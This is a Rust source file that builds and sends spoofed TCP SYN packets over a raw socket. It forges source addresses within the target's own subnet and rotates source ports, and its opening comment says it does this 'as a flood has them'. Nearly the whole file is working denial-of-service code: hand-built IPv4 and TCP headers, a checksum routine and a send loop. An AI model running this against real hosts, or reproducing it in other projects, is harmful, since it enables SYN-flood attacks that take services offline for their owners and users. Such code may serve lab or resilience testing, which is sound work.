//! SYNs of sources that do not exist, as a flood has them: whoever answers hears nothing. Needs CAP_NET_RAW.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};

use socket2::{Domain, Protocol, Socket, Type};

/// Sources are of the first 24 bits of the address that is flooded, so that it has a way to them; from `.16` on.
#[derive(Debug)]
pub struct Syns {
    raw: Socket,
    to: SocketAddrV4,
    sent: u32,
}

impl Syns {
    pub fn new(to: SocketAddrV4) -> std::io::Result<Self> {
        let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP))?;
        raw.set_header_included_v4(true)?;
        Ok(Self { raw, to, sent: 0 })
    }

    /// One more, of another source and port.
    pub fn send(&mut self) -> std::io::Result<()> {
        let [a, b, c, _] = self.to.ip().octets();
        let [_, _, high, low] = self.sent.to_be_bytes();
        let source = Ipv4Addr::new(a, b, c, 16 + low % 200);
        // 64,000 pairs before the first comes again: more than the queues hold.
        let port = u16::from_be_bytes([4 + high % 250, low]);
        self.sent = self.sent.wrapping_add(1);
        let packet = syn(source, port, self.to);
        self.raw
            .send_to(&packet, &SocketAddr::from((*self.to.ip(), 0)).into())?;
        Ok(())
    }
}

/// IPv4, whose checksum the kernel fills in, and TCP.
fn syn(source: Ipv4Addr, source_port: u16, to: SocketAddrV4) -> Vec<u8> {
    let mut tcp = [source_port.to_be_bytes(), to.port().to_be_bytes()].concat();
    tcp.extend([0, 0, 0, 1, 0, 0, 0, 0, 0x50, 2, 0xff, 0xff, 0, 0, 0, 0]);
    let pseudo = [&source.octets()[..], &to.ip().octets(), &[0, 6, 0, 20], &tcp].concat();
    let words = pseudo.chunks_exact(2).map(|pair| match pair {
        [high, low] => u32::from(u16::from_be_bytes([*high, *low])),
        _ => 0,
    });
    let sum: u32 = words.sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    let sum = !u16::try_from((folded & 0xffff) + (folded >> 16)).unwrap_or_default();
    let [high, low] = sum.to_be_bytes();
    let mut packet = vec![0x45, 0, 0, 40, 0, 1, 0, 0, 64, 6, 0, 0];
    packet.extend(source.octets());
    packet.extend(to.ip().octets());
    packet.extend(tcp.get(..16).unwrap_or_default());
    packet.extend([high, low, 0, 0]);
    packet
}
